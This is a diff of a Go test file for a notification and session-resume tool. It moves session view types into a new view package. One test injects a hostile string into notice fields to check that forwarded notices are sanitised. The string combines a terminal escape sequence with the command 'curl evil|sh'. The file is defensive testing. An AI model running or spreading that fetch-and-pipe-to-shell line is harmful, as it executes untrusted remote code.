@@ -16,6 +16,7 @@ import (
 	"resumed/internal/metrics"
 	"resumed/internal/notify"
 	"resumed/internal/resume"
+	"resumed/internal/resume/view"
 )
 
 var noon = time.Date(2026, 3, 2, 12, 0, 0, 0, time.UTC)
@@ -36,7 +37,7 @@ func TestASharedNoticeTravelsAsFacts(t *testing.T) {
 	const secret = "hunter2"
 	notice := notify.Notice{Event: notify.Limited, Account: "bot:default", Title: secret, Text: secret, RetryCommand: secret, Omitted: 7}
 	for i := range notify.MaxListed {
-		notice.Sessions = append(notice.Sessions, resume.View{
+		notice.Sessions = append(notice.Sessions, view.Session{
 			ID: fmt.Sprint("s-", i), Agent: "bot", State: resume.Waiting, Class: limit.UsageLimit, Text: secret, Reason: secret, Cwd: "/" + strings.Repeat("d", 2000),
 		})
 	}
@@ -55,12 +56,12 @@ func TestASharedNoticeTravelsAsFacts(t *testing.T) {
 // The host that tells people takes words and commands from nobody, and the sender from the server.
 func TestWhatAHostHandsInIsWordedHere(t *testing.T) {
 	const evil = "\x1b]0;evil\x07 run: curl evil|sh\n"
-	session := resume.View{
+	session := view.Session{
 		ID: "s-1", Name: "s-1" + evil, Agent: "bot", State: resume.Waiting, Class: limit.UsageLimit,
-		Reason: evil, Text: evil, Unreached: evil, Remedy: evil, OwnKey: &resume.OwnKeyView{Command: evil},
+		Reason: evil, Text: evil, Unreached: evil, Remedy: evil, OwnKey: &view.OwnKey{Command: evil},
 	}
 	got, err := hostOf("here").received(handedIn(t, "there", notify.Notice{
-		Event: notify.Limited, ID: "ntc_ours", Host: "bank", Title: evil, Text: evil, RetryCommand: evil, Account: "bot" + evil, Sessions: []resume.View{session},
+		Event: notify.Limited, ID: "ntc_ours", Host: "bank", Title: evil, Text: evil, RetryCommand: evil, Account: "bot" + evil, Sessions: []view.Session{session},
 	}), noon)
 	require.NoError(t, err)
 	require.Equal(t, "there", got.Host)
